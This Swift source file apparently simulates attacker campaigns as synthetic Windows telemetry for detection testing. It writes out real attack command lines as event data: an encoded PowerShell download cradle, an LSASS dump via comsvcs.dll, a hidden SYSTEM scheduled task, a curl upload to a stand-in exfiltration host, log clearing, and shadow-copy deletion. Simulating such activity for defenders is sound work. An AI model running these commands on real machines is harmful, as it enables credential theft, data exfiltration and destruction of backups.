/// Attacks on Windows machines.
extension CampaignStage {
  private static let system32 = #"C:\Windows\System32\"#
  private static let powershell = #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#

  mutating func playPhishing(victim: SimulatedHost, user: Int) {
    var pc = factory(victim)
    let command = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    step("T1204.002", "TA0002", after: 0)
    let desktop = pc.start(
      #"C:\Windows\explorer.exe"#, #"C:\Windows\Explorer.EXE"#, parent: nil, user: user, at: now - 5_000_000_000)
    let word = run(
      &pc, #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
      #""WINWORD.EXE" /n "C:\Users\\#(fleet.users[user].name)\Downloads\Invoice_8841.docm""#, parent: desktop.0,
      user: user)
    step("T1059.001", "TA0002", after: 20)
    let shell = run(&pc, Self.powershell, "powershell.exe -nop -w hidden -enc \(command)", parent: word, user: user)
    beacon(&pc, shell, domain: "cdn-\(random.hex(6)).update-sync.example", count: 20)
    step("T1033", "TA0007", after: 120)
    _ = run(&pc, Self.system32 + "whoami.exe", "whoami /all", parent: shell, user: user)
    step("T1482", "TA0007", after: 15)
    _ = run(&pc, Self.system32 + "nltest.exe", "nltest /domain_trusts /all_trusts", parent: shell, user: user)
    step("T1069.002", "TA0007", after: 15)
    _ = run(&pc, Self.system32 + "net.exe", #"net group "Domain Admins" /domain"#, parent: shell, user: user)
    step("T1003.001", "TA0006", after: 300)
    let dump = run(
      &pc, Self.system32 + "rundll32.exe",
      #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 644 C:\Windows\Temp\d.dmp full"#, parent: shell,
      user: user)
    add(pc.open(Self.system32 + "lsass.exe", access: "0x1fffff", by: dump, at: now + 100_000_000))
    add(pc.file(#"C:\Windows\Temp\d.dmp"#, "creation", by: dump, at: now + 900_000_000))
    step("T1053.005", "TA0003", after: 200)
    _ = run(
      &pc, Self.system32 + "schtasks.exe",
      #"schtasks /create /sc minute /mo 30 /tn "OneDrive Sync" /tr "powershell -w hidden -enc \#(command)" /ru SYSTEM"#,
      parent: shell, user: user)
    moveLaterally(from: victim, user: fleet.administrator)
    step("T1560.001", "TA0009", after: 900)
    _ = run(
      &pc, #"C:\Users\Public\rar.exe"#, #"rar.exe a -hpS3cret -v500m C:\Users\Public\a.rar \\fs01\Projects\*"#,
      parent: shell, user: user)
    step("T1048", "TA0010", after: 120)
    _ = run(
      &pc, Self.system32 + "curl.exe", #"curl.exe -T C:\Users\Public\a.rar https://files.update-sync.example/u"#,
      parent: shell, user: user)
    step("T1070.001", "TA0005", after: 60)
    _ = run(&pc, Self.system32 + "wevtutil.exe", "wevtutil cl Security", parent: shell, user: user)
    add(
      pc.windows(
        "Microsoft-Windows-Eventlog", "Security", "1102", category: ["iam", "configuration"],
        type: ["admin", "change"],
        action: "audit-log-cleared", user: user, data: [], at: now + 300_000_000))
  }

  private mutating func moveLaterally(from victim: SimulatedHost, user: Int) {
    let target = fleet.host(.fileServer)
    var server = factory(target)
    step("T1021.002", "TA0008", after: 600)
    add(server.logOn(user: user, type: "Network", from: victim, at: now))
    step("T1543.003", "TA0003", after: 2)
    add(
      server.windows(
        "Service Control Manager", "System", "7045", category: ["configuration"], type: ["creation"],
        action: "service-installed", user: nil,
        data: [
          ("ServiceName", "kx\(random.hex(4))"), ("ImagePath", #"%SystemRoot%\\#(random.hex(8)).exe"#),
          ("StartType", "demand start"), ("AccountName", "LocalSystem"),
        ],
        at: now))
    step("T1569.002", "TA0002", after: 2)
    let services = server.start(
      Self.system32 + "services.exe", Self.system32 + "services.exe", parent: nil, user: -1, at: now - 1_000_000)
    let service = run(&server, #"C:\Windows\\#(random.hex(8)).exe"#, "service.exe", parent: services.0, user: -1)
    _ = run(
      &server, Self.system32 + "cmd.exe", #"cmd.exe /c whoami > \\127.0.0.1\ADMIN$\o.txt 2>&1"#, parent: service,
      user: -1)
  }

  private mutating func beacon(_ factory: inout EventFactory, _ process: ProcessRecord, domain: String, count: Int) {
    step("T1071.001", "TA0011", after: 5)
    for number in 0..<count {
      let jitter = Int64.random(in: -3_000_000_000..<3_000_000_000, using: &random)
      let time = now + Int64(number) * 60_000_000_000 + jitter
      if number % 10 == 0 { add(factory.lookUp(domain, by: process, at: time - 50_000_000)) }
      add(factory.connect(process, to: HostActivity.address(of: domain), port: 443, at: time))
    }
  }

  mutating func playRansomware(victim: SimulatedHost, user: Int) {
    var pc = factory(victim)
    step("T1059.003", "TA0002", after: 0)
    let desktop = pc.start(
      #"C:\Windows\explorer.exe"#, #"C:\Windows\Explorer.EXE"#, parent: nil, user: user, at: now - 5_000_000_000)
    let locker = run(
      &pc, #"C:\Users\Public\Libraries\svhost.exe"#, "svhost.exe -pass \(random.hex(16))", parent: desktop.0, user: user
    )
    step("T1490", "TA0040", after: 5)
    for line in [
      ("vssadmin.exe", "vssadmin delete shadows /all /quiet"), ("wbadmin.exe", "wbadmin delete catalog -quiet"),
      ("bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    ] {
      _ = run(&pc, Self.system32 + line.0, line.1, parent: locker, user: user)
    }
    step("T1489", "TA0040", after: 3)
    for service in ["SQLWriter", "VeeamBackupSvc", "MSExchangeIS"] {
      _ = run(&pc, Self.system32 + "net.exe", "net stop \(service) /y", parent: locker, user: user)
    }
    step("T1486", "TA0040", after: 4)
    for number in 0..<120 {
      let path = #"C:\Users\\#(fleet.users[user].name)\Documents\report\#(number).docx.kx\#(random.hex(3))"#
      add(pc.file(path, "creation", by: locker, at: now + Int64(number) * 40_000_000))
    }
    add(pc.file(#"C:\Users\Public\Desktop\HOW_TO_RECOVER.txt"#, "creation", by: locker, at: now + 6_000_000_000))
  }

  mutating func playSpray(source: SimulatedHost, user: Int) {
    let controller = fleet.host(.domainController)
    var server = factory(controller)
    step("T1110.003", "TA0006", after: 0)
    for target in fleet.users.indices.prefix(60) where fleet.users[target].role != .service {
      now += Int64.random(in: 400_000_000..<2_000_000_000, using: &random)
      add(server.logOn(user: target, type: "Network", from: source, succeeds: target == user, at: now))
    }
    step("T1078.002", "TA0001", after: 3_600)
    add(server.logOn(user: user, type: "RemoteInteractive", from: source, at: now))
    step("T1136.002", "TA0003", after: 240)
    add(
      server.windows(
        "Microsoft-Windows-Security-Auditing", "Security", "4720", category: ["iam"], type: ["user", "creation"],
        action: "added-user-account", user: user,
        data: [("TargetUserName", "support_kx"), ("TargetDomainName", Fleet.domain)],
        at: now))
    add(
      server.windows(
        "Microsoft-Windows-Security-Auditing", "Security", "4728", category: ["iam"], type: ["group", "change"],
        action: "added-member-to-group", user: user,
        data: [("TargetUserName", "Domain Admins"), ("MemberName", "CN=support_kx")],
        at: now + 8_000_000_000))
  }
}
